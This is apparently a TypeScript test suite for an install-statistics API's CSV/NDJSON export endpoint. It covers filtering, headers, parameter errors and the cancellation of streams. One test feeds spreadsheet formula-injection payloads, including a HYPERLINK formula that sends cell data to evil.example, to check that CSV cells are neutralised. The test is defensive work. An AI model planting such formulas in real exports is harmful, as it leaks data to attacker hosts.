// GET /api/export: the same filters as GET /api/installs, CSV and NDJSON streamed, the stream
// closed when the client goes away; the formats themselves: test/unit/export-csv-and-ndjson-formatting.test.ts.
import { describe, expect, test } from "bun:test";
import { createApp } from "../../src/app.ts";
import { createLogger } from "../../src/log.ts";
import { CONTENT_TYPES, csvHeader } from "../../src/read/export.ts";
import type { StoreReads } from "../../src/store/contract/executions.ts";
import type { MaintenanceReads } from "../../src/store/contract/maintenance.ts";
import type { RejectedReads } from "../../src/store/contract/rejected.ts";
import type { WriteOp } from "../../src/store/contract/store.ts";
import { startReport, testApp, type TestApp } from "../helpers/app.ts";
import { COLUMNS, asCells, parseCsv, row } from "../helpers/export.ts";
import { execution } from "../helpers/reports.ts";

const HOUR = 3_600_000;
const DAY = 24 * HOUR;

/** The test app with the export plugin mounted on the full app (so parameter errors answer 400 as in production). */
async function setup(store?: (t: TestApp) => StoreReads & MaintenanceReads & RejectedReads) {
  const t = await testApp();
  const log = createLogger("error", () => {}, t.clock);
  // The full app (export is mounted there), over the given store wrapper when a test needs one.
  const app = createApp({
    config: t.config,
    store: store ? store(t) : t.store,
    writer: t.writer,
    clock: t.clock,
    version: "0.0.0-test",
    log,
    metrics: t.metrics,
    maintenance: t.maintenance,
    relay: t.relay,
    issues: t.issues,
  });
  const exportRes = (qs = "") => app.handle(new Request(`http://localhost/api/export${qs}`));
  const exportText = async (qs = "") => {
    const res = await exportRes(qs);
    expect(res.status).toBe(200);
    return res.text();
  };
  return { ...t, exportApp: app, exportRes, exportText };
}

const parseNdjson = (text: string) => {
  expect(text === "" || text.endsWith("\n")).toBe(true);
  return text === ""
    ? []
    : text
        .slice(0, -1)
        .split("\n")
        .map((line) => JSON.parse(line) as Record<string, unknown>);
};

/** Executions in progress loaded straight into the store (much faster than HTTP for thousands of rows). */
function seedRows(write: (ops: WriteOp[]) => unknown, n: number, at: number) {
  const ops: WriteOp[] = [];
  for (let i = 0; i < n; i++)
    ops.push({
      kind: "load",
      at: at + i,
      execution: execution(`seed-${i}`, {
        nsapp: "seeded",
        createdAt: at + i,
        updatedAt: at + i,
        installingAt: at + i,
      }),
    });
  write(ops);
}

describe("GET /api/export", () => {
  /** Records with the awkward values real clients send, each at its own time (oldest first). */
  async function seedAwkward(t: Awaited<ReturnType<typeof setup>>) {
    const ids: string[] = [];
    const start = async (id: string, fields: Record<string, unknown> = {}, drop: string[] = []) => {
      const body: Record<string, unknown> = startReport(id, fields);
      for (const k of drop) delete body[k];
      expect((await t.post("/upload", body)).status).toBe(201);
      ids.push(id);
      t.clock.advance(60_000);
    };
    const update = async (id: string, status: string, error: string) => {
      expect((await t.post("/upload/updatestatus", { status, error, random_id: id })).status).toBe(200);
      t.clock.advance(60_000);
    };
    await start("a-quotes", { nsapp: "jellyfin" });
    await update("a-quotes", "failed", 'apt-get said "E: unable", exit 100, see log');
    await start("b-newlines", { nsapp: "jellyfin", type: "vm", ct_type: 2, disableip6: "" });
    await update("b-newlines", "failed", "line one\nline two, with comma\r\nline three\ttabbed");
    await start("c-unicode", { nsapp: "home assistant", os_type: "ubuntu", os_version: "24.04" });
    await update("c-unicode", "failed", "Fehler: Größe ✓ 日本語 🚀 «quoted» \\ backslash");
    await start("d-nulls", { disk_size: "" }, ["disableip6", "method", "os_version"]);
    await start("e-done", { nsapp: "jellyfin", disk_size: "32G" });
    await update("e-done", "done", "none");
    await start('f-id,with"quote', { nsapp: "pihole" });
    return ids;
  }

  /** An install's latest execution as GET /api/installs/{id} answers it (each has one here). */
  const recordOf = async (t: Awaited<ReturnType<typeof setup>>, id: string) => {
    const res = await t.get(`/api/installs/${encodeURIComponent(id)}`);
    expect(res.status).toBe(200);
    const { executions, ...latest } = res.body;
    expect(executions).toHaveLength(1);
    return latest;
  };

  test("NDJSON round trip: every line equals GET /api/installs/{id}, oldest first", async () => {
    const t = await setup();
    const ids = await seedAwkward(t);
    const lines = parseNdjson(await t.exportText("?format=ndjson"));
    expect(lines.map((r) => r.random_id)).toEqual(ids);
    for (const line of lines) {
      const expected = await recordOf(t, line.random_id as string);
      expect(line).toEqual(expected);
      expect(Object.keys(line)).toEqual(Object.keys(expected));
    }
    // The awkward values really are in there.
    expect(lines[0]!.error).toContain('"E: unable", exit 100');
    expect(lines[1]!.error).toContain("\n");
    expect(lines[2]!.error).toContain("日本語 🚀");
    expect(lines[3]).toMatchObject({
      disk_size: null,
      disableip6: null,
      method: null,
      os_version: null,
      error: null,
      duration_s: null,
    });
  });

  test("CSV round trip: a strict RFC 4180 parse gives back every field as text", async () => {
    const t = await setup();
    const ids = await seedAwkward(t);
    const text = await t.exportText("?format=csv");
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(COLUMNS);
    expect(rows.map((r) => r[0])).toEqual(ids);
    for (const r of rows) expect(r).toEqual(asCells(await recordOf(t, r[0]!)));
    // Newlines inside error texts are kept, inside quotes; records end in CRLF.
    expect(rows[1]![COLUMNS.indexOf("error")]).toContain("line one\nline two, with comma");
  });

  test("CSV cells are guarded against formula injection; NDJSON keeps the values as they are", async () => {
    const t = await setup();
    const payloads = {
      hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      plus: "+1",
      minus: "-2+3",
      at: "@SUM(1)",
    };
    await t.post("/upload", startReport("inj-1", { nsapp: payloads.hyperlink, method: payloads.plus }));
    await t.post("/upload/updatestatus", { status: "failed", error: payloads.minus, random_id: "inj-1" });
    t.clock.advance(1000);
    await t.post(
      "/upload",
      startReport("inj-2", { nsapp: payloads.at, method: payloads.minus, os_version: payloads.plus }),
    );
    await t.post("/upload/updatestatus", { status: "failed", error: payloads.at, random_id: "inj-2" });

    const [header, one, two] = parseCsv(await t.exportText("?format=csv"));
    const cell = (r: string[] | undefined, field: string) => r![header!.indexOf(field)];
    expect(cell(one, "nsapp")).toBe(`'${payloads.hyperlink}`);
    expect(cell(one, "method")).toBe("'+1");
    expect(cell(one, "error")).toBe("'-2+3");
    expect(cell(two, "nsapp")).toBe("'@SUM(1)");
    expect(cell(two, "method")).toBe("'-2+3");
    expect(cell(two, "os_version")).toBe("'+1");
    expect(cell(two, "error")).toBe("'@SUM(1)");
    // No cell of the export starts a formula.
    for (const r of [one!, two!]) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);

    const [n1, n2] = parseNdjson(await t.exportText("?format=ndjson"));
    expect(n1).toMatchObject({ nsapp: payloads.hyperlink, method: "+1", error: "-2+3" });
    expect(n2).toMatchObject({ nsapp: "@SUM(1)", method: "-2+3", os_version: "+1", error: "@SUM(1)" });
  });

  test("the filters of GET /api/installs apply, with the same results", async () => {
    const t = await setup();
    // Three days, mixed apps, types and outcomes.
    const plan = [
      { id: "d1-a", day: 0, nsapp: "jellyfin", type: "lxc", final: "done" },
      { id: "d1-b", day: 0, nsapp: "pihole", type: "vm", final: "failed" },
      { id: "d2-a", day: 1, nsapp: "jellyfin", type: "lxc", final: "failed" },
      { id: "d2-b", day: 1, nsapp: "jellyfin", type: "lxc", final: null },
      { id: "d3-a", day: 2, nsapp: "pihole", type: "lxc", final: "done" },
      { id: "d3-b", day: 2, nsapp: "jellyfin", type: "vm", final: "failed" },
    ];
    const origin = t.clock(); // 2026-06-01T12:00Z
    for (const [i, p] of plan.entries()) {
      t.clock.advance(origin + p.day * DAY + HOUR + i * 60_000 - t.clock()); // 13:0i on its day
      await t.post("/upload", startReport(p.id, { nsapp: p.nsapp, type: p.type, ct_type: p.type === "vm" ? 2 : 1 }));
      if (p.final)
        await t.post("/upload/updatestatus", {
          status: p.final,
          error: p.final === "failed" ? `exit ${p.id}` : "none",
          random_id: p.id,
        });
    }
    const cases: [string, string[]][] = [
      ["", plan.map((p) => p.id)],
      ["nsapp=jellyfin", ["d1-a", "d2-a", "d2-b", "d3-b"]],
      ["outcome=failed", ["d1-b", "d2-a", "d3-b"]],
      ["outcome=failed&nsapp=jellyfin", ["d2-a", "d3-b"]],
      ["type=vm", ["d1-b", "d3-b"]],
      ["status=installing", ["d2-b"]],
      ["from=2026-06-02&to=2026-06-02", ["d2-a", "d2-b"]],
      ["from=2026-06-02T00:00:00Z", ["d2-a", "d2-b", "d3-a", "d3-b"]],
      ["days=1", ["d3-a", "d3-b"]],
      ["q=exit d2", ["d2-a"]],
      ["nsapp=nothing-like-this", []],
    ];
    for (const [qs, expected] of cases) {
      const list = await t.get(`/api/installs?limit=500&${qs}`);
      const listed = (list.body.installs as { random_id: string }[]).map((r) => r.random_id).reverse();
      const nd = parseNdjson(await t.exportText(`?format=ndjson&${qs}`)).map((r) => r.random_id);
      const [, ...csvRows] = parseCsv(await t.exportText(`?format=csv&${qs}`));
      expect({ qs, ids: nd }).toEqual({ qs, ids: expected });
      expect({ qs, ids: listed }).toEqual({ qs, ids: expected });
      expect({ qs, ids: csvRows.map((r) => r[0]) }).toEqual({ qs, ids: expected });
    }
  });

  test("an empty result is the header alone (csv) and an empty body (ndjson)", async () => {
    const t = await setup();
    expect(await t.exportText("?format=csv")).toBe(csvHeader());
    expect(await t.exportText("?format=ndjson")).toBe("");
    await t.post("/upload", startReport("x"));
    expect(await t.exportText("?format=csv&nsapp=none")).toBe(csvHeader());
    expect(await t.exportText("?format=ndjson&nsapp=none")).toBe("");
  });

  test("headers: content type per format, attachment with a UTC-stamped file name; csv by default", async () => {
    const t = await setup();
    for (const [qs, type, ext] of [
      ["?format=csv", CONTENT_TYPES.csv, "csv"],
      ["?format=ndjson", CONTENT_TYPES.ndjson, "ndjson"],
      ["", CONTENT_TYPES.csv, "csv"],
    ] as const) {
      const res = await t.exportRes(qs);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe(type);
      expect(res.headers.get("content-disposition")).toBe(
        `attachment; filename="installstats-20260601T120000Z.${ext}"`,
      );
      expect(res.body).toBeInstanceOf(ReadableStream);
      await res.text();
    }
    expect(CONTENT_TYPES).toEqual({ csv: "text/csv; charset=utf-8", ndjson: "application/x-ndjson" });
    expect(await t.exportText("")).toBe(csvHeader());
  });

  test("bad parameters answer 400 naming the parameter before any export starts", async () => {
    const t = await setup();
    for (const [qs, field] of [
      ["?format=xlsx", "format"],
      ["?from=yesterday", "from"],
      ["?days=3&from=2026-01-01", "days"],
      ["?outcome=great", "outcome"],
      ["?from=2026-06-02&to=2026-06-01", "from"],
    ] as const) {
      const res = await t.exportRes(qs);
      expect({ qs, status: res.status }).toEqual({ qs, status: 400 });
      expect(await res.json()).toMatchObject({ error: "invalid_field", field });
    }
  });

  test("the route is in the OpenAPI document with both content types", async () => {
    const t = await setup();
    const spec = (await (await t.exportApp.handle(new Request("http://localhost/openapi/json"))).json()) as any;
    const op = spec.paths["/api/export"]?.get;
    expect(op.tags).toEqual(["installs"]);
    expect(op.summary).toBeString();
    expect(op.description).toContain("lossless");
    expect(Object.keys(op.responses[200].content)).toEqual([CONTENT_TYPES.csv, CONTENT_TYPES.ndjson]);
    expect(op.parameters.map((p: { name: string }) => p.name)).toEqual(
      expect.arrayContaining(["format", "nsapp", "outcome", "from", "to", "days", "q"]),
    );
  });
});

describe("cancellation", () => {
  /** The real store, with iterateExecutions wrapped to count opened and closed iterators. */
  function tracking(t: TestApp) {
    const counts = { opened: 0, closed: 0 };
    const store: StoreReads & MaintenanceReads & RejectedReads = Object.assign(
      Object.create(t.store) as StoreReads & MaintenanceReads & RejectedReads,
      {
        async *executionChunks(...args: Parameters<StoreReads["executionChunks"]>) {
          counts.opened++;
          try {
            yield* t.store.executionChunks(...args); // return() reaches the store's iterator
          } finally {
            counts.closed++;
          }
        },
      },
    );
    return { store, counts };
  }

  test("a cancelled export closes the store's iterator; the database is fully usable after", async () => {
    let tracked!: ReturnType<typeof tracking>;
    const t = await setup((base) => (tracked = tracking(base)).store);
    seedRows((ops) => t.store.write(ops), 5000, t.clock() - DAY);

    const res = await t.exportRes("?format=ndjson");
    const reader = res.body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    expect(tracked.counts).toEqual({ opened: 1, closed: 0 });

    await reader.cancel();
    expect(tracked.counts).toEqual({ opened: 1, closed: 1 });
    // No statement left in progress: SQLite refuses a VACUUM while one is.
    expect(() => t.sqlite.run("VACUUM")).not.toThrow();
    expect((await t.post("/upload", startReport("after-cancel"))).status).toBe(201);
    // And the same export runs again, whole.
    expect(parseNdjson(await t.exportText("?format=ndjson"))).toHaveLength(5001);
  });

  test("the VACUUM check above would catch a statement left open", async () => {
    const t = await testApp();
    const open = t.sqlite.prepare("SELECT 1 UNION ALL SELECT 2").iterate();
    open.next();
    expect(() => t.sqlite.run("VACUUM")).toThrow(/statements in progress/);
    open.return?.();
    expect(() => t.sqlite.run("VACUUM")).not.toThrow();
  });

  test("over HTTP, a client that goes away cancels the export", async () => {
    // An endless source: only a cancel can end it.
    const counts = { pulled: 0, closed: 0 };
    const t = await setup((base) =>
      Object.assign(Object.create(base.store) as StoreReads & MaintenanceReads & RejectedReads, {
        async *executionChunks() {
          try {
            for (let i = 0; ; i++) {
              counts.pulled++;
              yield Array.from({ length: 100 }, (_, j) =>
                row({ randomId: `endless-${i}-${j}`, error: "x".repeat(200) }),
              );
            }
          } finally {
            counts.closed++;
          }
        },
      }),
    );
    const server = Bun.serve({ port: 0, fetch: (req) => t.exportApp.fetch(req) });
    try {
      const abort = new AbortController();
      const res = await fetch(`http://127.0.0.1:${server.port}/api/export?format=csv`, { signal: abort.signal });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      for (let got = 0; got < 1_000_000; ) {
        const { value } = await reader.read();
        got += value!.byteLength;
      }
      abort.abort();
      for (let i = 0; i < 200 && counts.closed === 0; i++) await Bun.sleep(10);
      expect(counts.closed).toBe(1);
      // Nothing is read after the close.
      const pulled = counts.pulled;
      await Bun.sleep(50);
      expect(counts.pulled).toBe(pulled);
    } finally {
      server.stop(true);
    }
  });

  test("two concurrent exports with the same filters both complete", async () => {
    const t = await setup();
    seedRows((ops) => t.store.write(ops), 5000, t.clock() - DAY);
    const [a, b] = await Promise.all([t.exportRes("?format=ndjson"), t.exportRes("?format=ndjson")]);
    const [ta, tb] = await Promise.all([a.text(), b.text()]);
    expect(parseNdjson(ta)).toHaveLength(5000);
    expect(tb).toBe(ta);
  });
});
